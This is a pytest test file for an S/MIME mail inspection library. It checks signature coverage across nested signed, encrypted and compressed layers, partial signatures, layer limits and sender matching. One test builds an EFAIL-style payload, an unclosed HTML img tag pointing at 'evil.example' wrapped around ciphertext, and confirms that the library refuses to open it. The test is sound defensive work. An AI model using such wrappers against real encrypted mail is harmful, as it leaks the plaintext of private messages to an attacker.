# SPDX-FileCopyrightText: 2026 The poststelle authors
# SPDX-License-Identifier: EUPL-1.2
import base64

import pytest

from poststelle.core.facts import Inspection
from poststelle.core.signature import Chain, Coverage, CryptoNote, Encryption, FromMatch, Signature
from poststelle.inspection.cms.chain import ChainChecker, Trust
from poststelle.inspection.cms.layer import Surroundings
from poststelle.inspection.message import inspect_message
from support.certificates import NOW, Wish, authority, issued
from support.cms_maker import (
    Keyholder,
    Signing,
    authenveloped,
    cbc,
    compressed,
    driven,
    enveloped,
    signed_data,
    transported,
)

CA = authority()
ERIKA = issued(CA)
POST = issued(CA, Wish(name="Post", email="post@example.org"))
KEY = bytes(range(32))
TRUSTING = Surroundings(NOW, ChainChecker(Trust((CA.der,))))
TEXT = b"Content-Type: text/plain; charset=utf-8\r\n\r\nGuten Tag\r\n"
FILE = (
    b'Content-Type: text/plain; name="plan.txt"\r\nContent-Disposition: attachment; filename="plan.txt"\r\n\r\nPlan\r\n'
)
HEAD = b"From: Erika <erika@example.org>\r\nTo: post@example.org\r\nSubject: Antrag\r\nMIME-Version: 1.0\r\n"


def opaque(der: bytes, kind: str) -> bytes:
    head = f'Content-Type: application/pkcs7-mime; smime-type={kind}; name="smime.p7m"\r\n'
    return (
        head.encode() + b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(der).replace(b"\n", b"\r\n")
    )


def signed(entity: bytes, *more: bytes, holder=ERIKA) -> bytes:
    der = base64.encodebytes(signed_data(entity, Signing(holder))).replace(b"\n", b"\r\n")
    head = (
        b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="-s"\r\n\r\n'
    )
    signature = (
        b'Content-Type: application/pkcs7-signature; name="smime.p7s"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
    )
    parts = b"".join(b"---s\r\n" + part + b"\r\n" for part in (entity, signature + der, *more))
    return head + parts + b"---s--\r\n"


def sealed(entity: bytes) -> bytes:
    return opaque(enveloped((transported(POST, KEY),), cbc(entity, KEY)), "enveloped-data")


def mixed(*entities: bytes) -> bytes:
    parts = b"".join(b"--m\r\n" + entity + b"\r\n" for entity in entities)
    return b'Content-Type: multipart/mixed; boundary="m"\r\n\r\n' + parts + b"--m--\r\n"


def inspected(entity: bytes, keyholder: Keyholder | None = None, surroundings: Surroundings = TRUSTING) -> Inspection:
    return driven(inspect_message(HEAD + entity, None, surroundings), keyholder or Keyholder((POST,)))


@pytest.mark.parametrize(
    "entity",
    [
        signed(TEXT),
        opaque(signed_data(TEXT, Signing(ERIKA), embedded=TEXT), "signed-data"),
        sealed(signed(TEXT)),
        signed(sealed(signed(TEXT))),
        opaque(compressed(signed(TEXT)), "compressed-data"),
        opaque(authenveloped((transported(POST, KEY),), signed(TEXT), KEY), "authEnveloped-data"),
        sealed(opaque(signed_data(TEXT, Signing(ERIKA), embedded=TEXT), "signed-data")),
    ],
    ids=["detached", "opaque", "signed-then-encrypted", "triple", "compressed", "gcm", "opaque-inside"],
)
def test_a_signature_over_all_of_the_plaintext_holds_in_any_nesting(entity) -> None:
    crypto = inspected(entity).crypto
    assert (crypto.signature, crypto.chain, crypto.from_match) == (Signature.OK, Chain.OK, FromMatch.MATCH)
    assert crypto.coverage is Coverage.WHOLE


def test_encrypted_then_signed_is_a_signature_over_ciphertext() -> None:
    crypto = inspected(signed(sealed(TEXT))).crypto
    assert (crypto.encryption, crypto.signature) == (Encryption.OK, Signature.OUTER_ONLY)
    assert CryptoNote.UNAUTHENTICATED in crypto.notes


def test_a_signed_part_among_others_covers_a_part() -> None:
    assert inspected(mixed(TEXT, signed(TEXT))).crypto.signature is Signature.PARTIAL
    assert inspected(signed(TEXT, FILE)).crypto.signature is Signature.PARTIAL
    assert inspected(mixed(signed(TEXT), FILE)).crypto.coverage is Coverage.PARTIAL


def test_a_ciphertext_wrapped_in_foreign_text_is_never_opened() -> None:
    """EFAIL: the plaintext would be drawn into an address of the attacker's."""
    html = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
    keyholder = Keyholder((POST,))
    crypto = inspected(mixed(html, sealed(TEXT), b'Content-Type: text/html\r\n\r\n">'), keyholder).crypto
    assert (crypto.encryption, keyholder.unwraps) == (Encryption.PARTIAL, 0)


def test_files_inside_are_found_and_known_as_decrypted() -> None:
    keyholder = Keyholder((POST,))
    found = inspected(sealed(mixed(TEXT, FILE)), keyholder)
    assert {file.path[-1]: file.decrypted for file in found.files} == {
        "smime.p7m": False,
        "text.txt": True,
        "plan.txt": True,
    }
    assert len(keyholder.scanned) == 1


def test_a_closed_layer_is_a_file_and_a_state_not_a_fault() -> None:
    found = inspected(sealed(mixed(TEXT, FILE)), Keyholder())
    assert found.crypto.encryption is Encryption.NO_KEY
    assert [file.path for file in found.files] == [("smime.p7m",)]


def test_a_text_encrypted_with_bare_line_feeds_is_read() -> None:
    crypto = inspected(sealed(signed(TEXT).replace(b"\r\n", b"\n"))).crypto
    assert (crypto.encryption, crypto.signature) == (Encryption.OK, Signature.OK)


def test_an_attachment_called_smime_p7m_is_a_layer_whatever_its_type() -> None:
    entity = sealed(TEXT).replace(b"application/pkcs7-mime", b"application/octet-stream")
    assert inspected(entity).crypto.encryption is Encryption.OK


def test_layers_end_at_six() -> None:
    entity = TEXT
    for _ in range(7):
        entity = opaque(compressed(entity), "compressed-data")
    crypto = inspected(entity).crypto
    assert [layer.encryption for layer in crypto.layers] == [Encryption.NONE] * 6 + [Encryption.TOO_DEEP]


def test_without_surroundings_integrity_is_seen_and_nobody_is_trusted() -> None:
    crypto = driven(inspect_message(HEAD + sealed(signed(TEXT))), Keyholder((POST,))).crypto
    assert (crypto.encryption, crypto.signature, crypto.chain) == (Encryption.OK, Signature.OK, Chain.UNTRUSTED)


def test_another_address_in_from_is_a_mismatch_and_hides_no_integrity() -> None:
    other = issued(CA, Wish(name="Max", email="max@example.org"))
    crypto = inspected(signed(TEXT, holder=other)).crypto
    assert (crypto.signature, crypto.from_match) == (Signature.OK, FromMatch.MISMATCH)
